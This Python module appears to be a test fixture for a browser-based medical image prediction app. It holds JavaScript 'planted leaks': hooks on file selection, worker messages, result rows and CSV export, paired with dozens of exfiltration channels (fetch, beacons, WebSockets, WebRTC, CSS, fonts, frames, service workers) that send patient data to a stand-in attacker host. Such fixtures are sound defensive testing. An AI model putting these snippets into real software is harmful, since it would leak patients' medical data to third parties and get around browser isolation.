"""The planted leaks: what a hostile or careless dependency might do at each place of the prediction path.

In the code, TAG is the mutant's mark, H a host of the attacker whose name holds it, K an address of the attacker; `leak`
takes a text about the patient. Code for a realm runs before the realm's own.
"""
# ruff: noqa: E501  a planted line stands on one line, as it is run

VAULT_PRELUDE = """
const { fetch, XMLHttpRequest, WebSocket, EventSource, RTCPeerConnection, WebTransport, Worker, SharedWorker, Blob, URL } = self;
const open = self.open?.bind(self), beacon = navigator.sendBeacon?.bind(navigator);
const url = (data) => `http://${H}/leak?${encodeURIComponent(data)}`;
const add = (tag, values, place = document.documentElement) => { const e = Object.assign(document.createElement(tag), values); place.append(e); return e; };
const once = (make) => { let done = false; return (data) => { if (!done) { done = true; make(data); } }; };
"""
"""Keeps the interfaces that the vault deletes at its start."""

VAULT_PLACES: dict[str, str] = {
    "when a file is chosen": "document.addEventListener('change', (event) => leak(event.target.files?.[0]?.name ?? ''), true);",
    "when a file is read": "const read = Blob.prototype.arrayBuffer; Blob.prototype.arrayBuffer = function () { if (this instanceof File) leak(this.name); return read.call(this); };",
    "when an image goes to the engine": "const post = Worker.prototype.postMessage; Worker.prototype.postMessage = function (message, ...rest) { if (message?.type === 'predict') leak(String(message.image.byteLength)); return post.call(this, message, ...rest); };",
    "when an answer comes": "const post = Worker.prototype.postMessage, known = new WeakSet(); Worker.prototype.postMessage = function (...all) { if (!known.has(this)) { known.add(this); this.addEventListener('message', ({ data }) => data?.answer?.width && leak(String(data.answer.probabilities))); } return post.apply(this, all); };",
    "when a row is drawn": "new MutationObserver(() => { const name = document.querySelector('tr.done .name'); if (name) leak(name.textContent); }).observe(document, { subtree: true, childList: true, attributes: true });",
    "when the table is saved": "const make = URL.createObjectURL; URL.createObjectURL = (blob) => { if (blob.type.startsWith('text/csv')) blob.slice(0, 900).text().then((text) => leak(text.split('\\n')[1])); return make.call(URL, blob); };",
    "when the vault ends": "let last = ''; document.addEventListener('change', (event) => { last = event.target.files?.[0]?.name ?? last; }, true); addEventListener('pagehide', () => leak(last));",
    "a second after a result": "new MutationObserver(() => { const name = document.querySelector('tr.done .name'); if (name) setTimeout(() => leak(name.textContent), 1000); }).observe(document, { subtree: true, childList: true });",
}

VAULT_CHANNELS: dict[str, str] = {
    "fetch": "fetch(url(data), { mode: 'no-cors' })",
    "fetch with keepalive": "fetch(url(data), { mode: 'no-cors', keepalive: true, method: 'POST', body: data })",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', url(data)); x.send()",
    "beacon": "beacon(url(''), data)",
    "WebSocket": "new WebSocket(url(data).replace('http', 'ws'))",
    "EventSource": "new EventSource(url(data))",
    "WebTransport": "new WebTransport(`https://${H}:4433/t`).ready.catch(() => 0)",
    "image": "new Image().src = url(data)",
    "CSS background": "add('div', { textContent: '.' }, document.body).style.backgroundImage = `url(${url(data)})`",
    "style sheet link": "add('link', { rel: 'stylesheet', href: url(data) }, document.head)",
    "CSS import": "const s = new CSSStyleSheet(); add('style', { textContent: `@import '${url(data)}';` }, document.head)",
    "font": "new FontFace('f', `url(${url(data)})`).load().catch(() => 0)",
    "prefetch link": "add('link', { rel: 'prefetch', href: url(data) }, document.head)",
    "preload link": "add('link', { rel: 'preload', as: 'image', href: url(data) }, document.head)",
    "script element": "add('script', { src: url(data) }, document.head)",
    "video poster": "add('video', { poster: url(data) }, document.body)",
    "form in a new window": "add('form', { action: url(data), target: '_blank' }, document.body).submit()",
    "new window": "open(url(data), '_blank', 'noopener')",
    "frame": "add('iframe', { src: url(data) }, document.body)",
    "empty frame's fetch": "add('iframe', {}, document.body).contentWindow.fetch(url(data), { mode: 'no-cors' })",
    "srcdoc frame's image": "add('iframe', { srcdoc: `<img src=\"${url(data)}\">` }, document.body)",
    "ping": "add('a', { href: '#', ping: url(data) }, document.body).click()",
    "DNS prefetch link": "add('link', { rel: 'dns-prefetch', href: url(data) }, document.head)",
    "preconnect link": "add('link', { rel: 'preconnect', href: url(data) }, document.head)",
    "WebRTC STUN": "const p = new RTCPeerConnection({ iceServers: [{ urls: `stun:${H}:3478` }] }); p.createDataChannel('d'); p.createOffer().then((o) => p.setLocalDescription(o))",
    "WebRTC TURN user name": "const p = new RTCPeerConnection({ iceServers: [{ urls: `turn:${K}:3478?transport=udp`, username: TAG, credential: 'c' }] }); p.createDataChannel('d'); p.createOffer().then((o) => p.setLocalDescription(o))",
    "WebRTC host candidate": "const p = new RTCPeerConnection(); p.createDataChannel('d'); p.createOffer().then((o) => p.setLocalDescription(o)).then(() => p.setRemoteDescription({ type: 'answer', sdp: p.localDescription.sdp.replace(/a=setup:\\w+/, 'a=setup:active').replace(/a=ice-ufrag:.*/, 'a=ice-ufrag:' + TAG + TAG).replace(/a=candidate.*\\r\\n/g, '') + `a=candidate:1 1 udp 2122260223 ${K} 3478 typ host\\r\\n` }))",
    "navigation": "setTimeout(() => { location.href = url(data); }, 600)",
    "meta refresh": "setTimeout(() => add('meta', { httpEquiv: 'refresh', content: `0;url=${url(data)}` }, document.head), 600)",
    "download link": "add('a', { href: url(data), download: 'd' }, document.body).click()",
    "navigation of the page": "setTimeout(() => { top.location.href = url(data); }, 600)",
    "blob worker's fetch": "new Worker(URL.createObjectURL(new Blob([`fetch('${url(data)}', { mode: 'no-cors' })`])))",
    "message to the shell": "parent.postMessage({ back: data }, '*')",
    "console": "console.log(data)",
    "name of the saved table": "const click = HTMLAnchorElement.prototype.click; HTMLAnchorElement.prototype.click = function () { this.download = `${data}.csv`; return click.call(this); }",
    "own storage": "const q = indexedDB.open('db-' + data); q.onupgradeneeded = () => q.result.createObjectStore('s')",
}

ENGINE_PLACES: dict[str, str] = {
    "when an image comes": "self.addEventListener('message', ({ data }) => data?.type === 'predict' && leak(String(data.image.byteLength)));",
    "when an answer goes": "const post = self.postMessage; self.postMessage = (message, ...rest) => { if (message?.answer?.width) leak(String(message.answer.probabilities)); return post.call(self, message, ...rest); };",
    "when pixels are shrunk": "let busy = false; self.addEventListener('message', ({ data }) => { busy = data?.type === 'predict'; }); self.Uint8ClampedArray = new Proxy(self.Uint8ClampedArray, { construct(target, all) { if (busy) leak(`pixels ${all[0]}`); return Reflect.construct(target, all); } });",
}

ENGINE_CHANNELS: dict[str, str] = {
    "fetch": "fetch(url(data), { mode: 'no-cors' }).catch(() => 0)",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', url(data)); x.send()",
    "WebSocket": "new WebSocket(url(data).replace('http', 'ws'))",
    "EventSource": "new EventSource(url(data))",
    "importScripts": "try { importScripts(url(data)); } catch {}",
    "font": "new FontFace('f', `url(${url(data)})`).load().catch(() => 0)",
    "sub-worker's fetch": "new Worker(URL.createObjectURL(new Blob([`fetch('${url(data)}', { mode: 'no-cors' })`])))",
    "request to the own server": "fetch(`http://${location.origin === 'null' ? SITE : location.host}/take?${encodeURIComponent(data)}`, { mode: 'no-cors' }).catch(() => 0)",
}

SHELL_CHANNELS: dict[str, str] = {
    "request to the own server": "fetch(`../assets/x?${encodeURIComponent(data)}`)",
    "foreign request": "fetch(`http://${H}/leak`, { method: 'POST', mode: 'no-cors', body: data })",
    "image of the own server": "new Image().src = `../x.png?${encodeURIComponent(data)}`",
    "icon of the own server": "document.querySelector('link[rel=icon]').href = `../x.svg?${encodeURIComponent(data)}`",
    "title": "document.title = data",
    "fragment of the address": "history.replaceState(null, '', '#' + data)",
    "path of the address": "history.pushState(null, '', './' + encodeURIComponent(data))",
    "local storage": "localStorage.setItem('k', data)",
    "session storage": "sessionStorage.setItem('k', data)",
    "database": "indexedDB.open('db-' + data)",
    "cache": "caches.open('c').then((c) => c.put('/kept', new Response(data)))",
    "private file system": "navigator.storage.getDirectory().then((d) => d.getFileHandle(data.replace(/[^a-z0-9]/gi, '_'), { create: true }))",
    "cookie": "document.cookie = `k=${encodeURIComponent(data)}; max-age=9999`",
    "console": "console.log(data)",
    "window name": "self.name = data",
    "service worker's fetch": "navigator.serviceWorker.ready.then((r) => r.active.postMessage(data))",
    "shared worker's fetch": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://${H}/leak', { mode: 'no-cors' })`])))",
}

LOADING: dict[str, str] = {
    "a query on the model's address": "const get = self.fetch; self.fetch = (where, how) => get(`${where}?v=1`, how);",
    "a request that counts visitors": "fetch('../visit', { method: 'POST' }).catch(() => 0);",
    "a foreign request": "fetch(`http://${H}/count`, { mode: 'no-cors' }).catch(() => 0);",
    "a referrer": "document.querySelector('meta[name=referrer]').content = 'unsafe-url'; const get = self.fetch; self.fetch = (where, how) => get(where, { ...how, referrerPolicy: 'unsafe-url' });",
    "a cookie": "document.cookie = 'visitor=1; path=/'; const get = self.fetch; self.fetch = (where, how) => get(where, { ...how, credentials: 'include' });",
    "a name looked up": "document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `http://${H}/` }));",
}
"""Leaks of the shell before any image: that someone is here, and where from."""

LEAKING_WORKER = "self.addEventListener('message', ({ data }) => fetch(`http://${H}/leak?${encodeURIComponent(data)}`, { mode: 'no-cors' }).catch(() => 0)); self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));"
"""A service worker that sends what it is told."""

WORKER_LEAKS: dict[str, str] = {
    "fetch when the model is there": "self.addEventListener('message', ({ data }) => { if (data?.type === 'ready') setTimeout(() => fetch(`http://${H}/ready`, { mode: 'no-cors' }).catch(() => 0), 2000); });",
    "request to the own server when the model is there": "self.addEventListener('message', ({ data }) => { if (data?.type === 'ready') setTimeout(() => fetch('take', { method: 'POST', body: 'ready' }).catch(() => 0), 2000); });",
    "fetch at every request": "self.addEventListener('fetch', ({ request }) => { fetch(`http://${H}/saw?${encodeURIComponent(request.url)}`, { mode: 'no-cors' }).catch(() => 0); });",
    "a request that counts visitors": "self.addEventListener('activate', () => { fetch('visit?1').catch(() => 0); });",
}
"""Leaks of the service worker, which no policy binds on a host without headers; it never sees patient data."""
